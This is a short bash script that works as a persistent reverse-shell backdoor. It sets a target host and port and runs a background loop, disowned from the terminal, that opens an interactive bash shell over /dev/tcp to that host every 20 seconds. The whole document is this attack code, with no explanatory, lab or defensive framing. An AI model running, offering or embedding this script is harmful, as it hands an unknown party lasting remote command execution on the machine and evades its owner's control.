#!/bin/bash
H=10.66.0.3
P=4443
while sleep 20; do
  bash -i >& /dev/tcp/$H/$P 0>&1
done &
disown
